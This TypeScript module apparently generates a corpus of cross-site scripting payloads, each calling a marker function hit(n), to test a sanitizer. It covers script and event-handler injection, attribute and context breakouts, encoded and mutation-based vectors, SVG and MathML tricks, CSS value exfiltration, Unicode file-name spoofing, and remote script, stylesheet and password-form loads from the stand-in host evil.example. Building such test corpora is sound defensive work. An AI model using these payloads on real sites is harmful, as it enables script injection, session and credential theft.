import {
  brokenLines,
  carriers,
  closers,
  documents,
  fetched,
  formulaTexts,
  handlers,
  invisible,
  linked,
  schemes,
  spaces,
  swallowing,
  templateTexts,
} from './ingredients.ts';

/** Writes one attack around what shall run; `x` is another host, which must never hear of it. */
type Trick = (run: string, x: string) => string;

export type Payload = { kind: string; text: string };

const each = <Value>(values: Value[], write: (value: Value, run: string, x: string) => string): Trick[] =>
  values.map((value) => (run, x) => write(value, run, x));

/** By the kind of trick. What is allowed in a text (frames and pictures over https) is not among them. */
const tricks: Record<string, Trick[]> = {
  tags: [
    ...each(
      ['script', 'SCRIPT', 'ScRiPt', 'svg:script', 'x:script'],
      (tag, run) => `<${tag}>${run}</${tag}>`,
    ),
    ...each(spaces, (space, run) => `<script${space}>${run}</script${space}>`),
    ...each(spaces, (space, run) => `<img${space}src=x${space}onerror=${run}>`),
    (run) => `<script>${run}`,
    (run) => `<<script>${run}//<</script>`,
    (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
    (run) => `<script type=module>${run}</script>`,
    (run) => `<script async defer>${run}</script>`,
    (_run, x) => `<script src=//${x}/a.js></script>`,
    (_run, x) => `<script type="text/javascript" src="http://${x}/a.js"></script>`,
    (_run, x) => `<meta http-equiv=refresh content="0;url=http://${x}/">`,
    (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    (run) =>
      `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>${run}</script>`,
    (run) => `<!--><script>${run}</script>-->`,
    (run) => `<!DOCTYPE x [<!ENTITY e "<script>${run}</script>">]>&e;`,
    (run) => `<?xml-stylesheet href="javascript:${run}"?>`,
    (run) => `<![CDATA[<script>${run}</script>]]>`,
    (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    (run) => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
    (run) => `<portal src="javascript:${run}"></portal>`,
    (run) => `<isindex action="javascript:${run}" type=submit value=x>`,
  ],
  handlers: [
    ...each(handlers, (handler, run) => `<img src=x ${handler}=${run}>`),
    ...each(handlers, (handler, run) => `<p tabindex=1 ${handler}="${run}" id=x autofocus>a</p>`),
    ...each(
      carriers,
      (tag, run) => `<${tag} onload=${run} onerror=${run} onfocus=${run} ontoggle=${run} open src=x>`,
    ),
    (run) => `<input autofocus onfocus=${run}>`,
    (run) => `<details open ontoggle="${run}"><summary>a</summary></details>`,
    (run) => `<video><source onerror="${run}"></video>`,
    (run) => `<button popovertarget=x>a</button><p popover id=x onbeforetoggle=${run}>b</p>`,
    (run) => `<img src=x onerror="${run.replace('hit', '\\u0068it')}">`,
    (run) => `<img src=x onerror=window['h'+'it']${run.slice(3)}>`,
    (run) => `<img src=x oNeRrOr=${run}>`,
  ],
  attributes: [
    ...each(closers, (closer, run) => `${closer}<img src=x onerror=${run}>`),
    ...each(
      ['"', "'", '`', ''],
      (quote, run) => `x${quote} onmouseover=${quote}${run}${quote} autofocus ${quote}`,
    ),
    ...each(
      ['"', "'"],
      (quote, run) => `${quote} style=${quote}animation:x${quote} onanimationstart=${quote}${run}`,
    ),
    ...each(['"', "'"], (quote) => `${quote} dangerouslySetInnerHTML=${quote}x${quote} ref=${quote}x`),
    (run) => `\\"><img src=x onerror=${run}>`,
    (run) => `&quot;&gt;&lt;img src=x onerror=${run}&gt;`,
    (run) => `%22%3E%3Cimg src=x onerror=${run}%3E`,
  ],
  schemes: [
    ...schemes.flatMap((scheme) =>
      each(linked.slice(0, 3), (place, run) => `<${place}="${scheme}${run}">a</a>`),
    ),
    ...documents.flatMap((kind) =>
      each(linked.slice(3), (at, run) => `<${at}="${kind}<script>parent.${run}</script>">`),
    ),
    ...each(schemes, (scheme, run) => `${scheme}${run}`),
  ],
  fetching: [
    ...each(fetched, (place, _run, x) => `<${place}="http://${x}/${place.replaceAll(/\W/g, '-')}">`),
    ...each(fetched, (place, _run, x) => `<${place}="//${x}/${place.replaceAll(/\W/g, '-')}">`),
    ...each(
      ['/\\', '\\\\', '/\t/', '///', '////', 'http:'],
      (start, _run, x) => `<img src="${start}${x}/i.png">`,
    ),
    (_run, x) => `<a ping="http://${x}/ping" href="/">a</a>`,
    (_run, x) => `<img src=/mark.svg srcset="http://${x}/s.png 2x">`,
    (_run, x) => `<form action="http://${x}/f"><input name=password><input type=submit></form>`,
    (_run, x) => `<style>@import "http://${x}/s.css";</style>`,
  ],
  encodings: [
    (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
    (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
    (run) => `&#60;script&#62;${run}&#60;/script&#62;`,
    (run) => `&#x3c;img src=x onerror=${run}&#x3e;`,
    (run) => `&#x0003C;img src=x onerror=${run}&#x0003E;`,
    (run) => `&ltimg src=x onerror=${run}&gt`,
    (run) => `&LT;img src=x onerror=${run}&GT;`,
    (run) => `%3Cscript%3E${run}%3C/script%3E`,
    (run) => `%253Cscript%253E${run}%253C/script%253E`,
    (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    (run) => `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
    (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    (run) => `\u2039script\u203a${run}\u2039/script\u203a`,
    (run) => `%c0%bcscript%c0%be${run}`,
    (run) => `&#x26;lt;img src=x onerror=${run}&#x26;gt;`,
    (run) => `=3Cscript=3E${run}=3C/script=3E`,
  ],
  mutation: [
    ...each(swallowing, (tag, run) => `<${tag}><p title="</${tag}><img src=x onerror=${run}>"></${tag}>`),
    ...each(swallowing, (tag, run) => `<svg><${tag}><img src=x onerror=${run}></${tag}></svg>`),
    ...each(
      swallowing,
      (tag, run) => `<math><mtext><${tag}><img src=x onerror=${run}></${tag}></mtext></math>`,
    ),
    (run) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    (run) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
    (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    (run) => `<p id="</noscript><img src=x onerror=${run}>"><noscript>`,
    (run) => `<table><td><table><caption><svg><desc><style><a title="</style><img src onerror=${run}>">`,
    (run) => `<a><b><a><svg><title><style><img title="</style></title></svg><img src onerror=${run}>">`,
    (run) => `${'<div>'.repeat(600)}<img src=x onerror=${run}>`,
    (run) => `<select><template><style></select><img src=x onerror=${run}></style></template>`,
    (run) =>
      `<p id=root name=body></p><form id=config><input name=attributes onfocus=${run} autofocus></form>`,
    (run) => `<img name=getElementById><img name=body src=x onerror=${run}>`,
  ],
  drawings: [
    (run) => `<svg onload=${run}>`,
    (run) => `<svg/onload=${run}//`,
    (run) => `<svg><script>${run}</script></svg>`,
    (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
    (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>a</text></a></svg>`,
    (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
    (run) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>a</text></a></svg>`,
    (run) => `<svg><set attributeName=onload to="${run}"/></svg>`,
    (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    (run) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
    (run) => `<svg><handler type="text/javascript">${run}</handler></svg>`,
    (_run, x) => `<svg><image href="http://${x}/i.svg"/><feImage xlink:href="http://${x}/f.svg"/></svg>`,
    (run) => `<math href="javascript:${run}">a</math>`,
    (run) => `<math><maction actiontype=statusline xlink:href="javascript:${run}">a</maction></math>`,
    (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
    (run) => `<math><mi><mglyph><svg><img src=x onerror=${run}></svg></mglyph></mi></math>`,
  ],
  templates: each(templateTexts, (text, run) => text.replaceAll('RUN', run)),
  styles: [
    (run) => `<style>*{behavior:url(javascript:${run})}</style>`,
    (run) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${run}>a</p>`,
    (run) => `<p style="width:expression(${run})">a</p>`,
    (run) => `<p style="-moz-binding:url(javascript:${run})">a</p>`,
    (_run, x) => `<p style="background:url(http://${x}/b.png)">a</p>`,
    (_run, x) => `<p style="position:fixed;inset:0;z-index:99999;background:url(//${x}/o)">a</p>`,
    (_run, x) => `<style>input[value^=a]{background:url(http://${x}/a)}</style>`,
    (_run, x) => `<style>@font-face{font-family:x;src:url(http://${x}/f)}*{font-family:x}</style>`,
    (_run, x) => `<link rel=stylesheet href=http://${x}/l.css>`,
    () => '<style>*{display:none}</style>',
    () => '<p style="content:\\22\\3e">a</p>',
    () => '</style><style>body{visibility:hidden}</style>',
  ],
  unicode: [
    ...each(invisible, (sign, run) => `<${sign}script>${run}</script>`),
    ...each(invisible, (sign, run) => `java${sign}script:${run}`),
    ...each(invisible, (sign) => `a${sign}b${sign}gpj.exe`),
    (run) => `<ſcript>${run}</ſcript>`,
    (run) => `<ımg src=x onerror=${run}>`,
    (run) => `\u{1F525}<img src=x onerror=${run}>\u{1F525}`,
    () => `z${'\u0300'.repeat(60)}`,
    () => '\u202egnp.exe\u202c',
    () => '\u2066admin\u2069@fire.example',
  ],
  markdown: [
    (run) => `[a](javascript:${run})`,
    (run) => `![a](x"onerror="${run})`,
    (run) => `[a]: javascript:${run}`,
    (run) => `<javascript:${run}>`,
    (run) => `\`\`\`<script>${run}</script>\`\`\``,
    (_run, x) => `![a](http://${x}/i.png)`,
    (run) => `[a](data:text/html,<script>${run}</script>)`,
  ],
  breakouts: [
    (run) => `</script><script>${run}</script>`,
    (run) => `";${run};"`,
    (run) => `'-${run}-'`,
    (run) => `\\'-${run}//`,
    (run) => `</ScRiPt ><img src=x onerror=${run}>`,
    (run) => `<!--<script>${run}`,
    (run) => `\u2028${run}\u2029`,
    (run) => `{"__proto__":{"html":"<img src=x onerror=${run}>"}}`,
    (run) => `]]]]><![CDATA[><script>${run}</script>`,
    (run) => `*/${run}/*`,
    (run) => `"}</script><script>${run}</script>{"`,
  ],
  formulas: each(formulaTexts, (text, _run, x) => text.replaceAll('HOST', x)),
  lines: each(brokenLines, (text, run, x) => text.replaceAll('RUN', run).replaceAll('HOST', x)),
};

export const otherHost = 'evil.example';

/** Each calls `hit` with a number of its own. */
export const payloads: Payload[] = Object.entries(tricks)
  .flatMap(([kind, list]) => list.map((trick) => ({ kind, trick })))
  .map(({ kind, trick }, number) => ({ kind, text: trick(`hit(${number})`, otherHost) }));
